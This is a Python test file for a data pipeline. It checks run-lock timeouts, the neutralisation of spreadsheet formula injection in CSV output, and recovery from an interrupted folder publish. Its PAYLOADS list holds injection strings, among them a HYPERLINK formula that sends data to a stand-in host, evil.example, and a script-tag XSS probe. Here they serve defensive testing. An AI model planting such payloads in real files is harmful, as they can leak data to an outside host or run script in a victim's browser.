"""Hostile and careless runs, the parts that need no run: the CSV formula rule
round-trips, an interrupted publish keeps the good folder, the run lock's wait is
bounded. (Refusals before a run: integration/; whole runs: e2e/test_hostile_runs.py.)"""

from __future__ import annotations

import os
import time
from datetime import date

import pytest

from assets.resources import RunBusy, RunLocks
from core.csv_safety import neutralise, neutralise_frame, unescape

NIGHT = date(2026, 11, 20)
DAY = NIGHT.isoformat()
# OWASP's list of cell starts a spreadsheet may run as a formula (+ HTML for the report).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak","点我")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]


def test_run_lock_wait_is_bounded_and_configurable(tmp_path):
    wh = tmp_path / "w.duckdb"
    first = RunLocks.for_paths(wh, tmp_path / "outbox")
    first.acquire(run_id="first", wait_s=0)
    try:
        second = RunLocks.for_paths(wh, tmp_path / "outbox")  # same process, other owner
        t0 = time.monotonic()
        with pytest.raises(RunBusy, match=r"another bidui run .*run first.*waited 1 s"):
            second.acquire(run_id="second", wait_s=1)
        assert 0.9 < time.monotonic() - t0 < 5
    finally:
        first.release()
    second.acquire(run_id="second", wait_s=0)
    second.release()


def test_csv_rule_round_trips_and_leaves_numbers_alone():
    import polars as pl

    for text in [*PAYLOADS, "'=already quoted", "张三", "", "'plain"]:
        assert unescape(neutralise(text)) == text
    assert neutralise(-5) == -5 and neutralise(None) is None
    df = pl.DataFrame({"t": ["=1", None, "ok", "-x"], "n": [-1, 2, 3, 4]})
    out = neutralise_frame(df)
    assert out["t"].to_list() == ["'=1", None, "ok", "'-x"] and out["n"].to_list() == [-1, 2, 3, 4]


def test_sigterm_during_the_publishing_renames_keeps_the_good_folder(tmp_path, monkeypatch):
    """`bidui run` turns SIGTERM into KeyboardInterrupt; hitting the second rename of
    promote, it puts the earlier folder back (kill -9 there is recover's job)."""
    import publishing.outbox as publish

    outbox = tmp_path / "outbox"
    (outbox / DAY).mkdir(parents=True)
    (outbox / DAY / "good.txt").write_text("good")
    staging = outbox / ".staging" / "run-1"
    staging.mkdir(parents=True)
    (staging / "new.txt").write_text("new")
    real, calls = os.rename, []

    def interrupted(src, dst):
        calls.append(dst)
        if len(calls) == 2:
            raise KeyboardInterrupt  # the signal arrives during the second rename
        return real(src, dst)

    monkeypatch.setattr(publish.os, "rename", interrupted)
    with pytest.raises(KeyboardInterrupt):
        publish.promote(staging, outbox / DAY)
    monkeypatch.setattr(publish.os, "rename", real)
    assert (outbox / DAY / "good.txt").read_text() == "good"
    assert sorted(p.name for p in outbox.iterdir()) == [".staging", DAY]
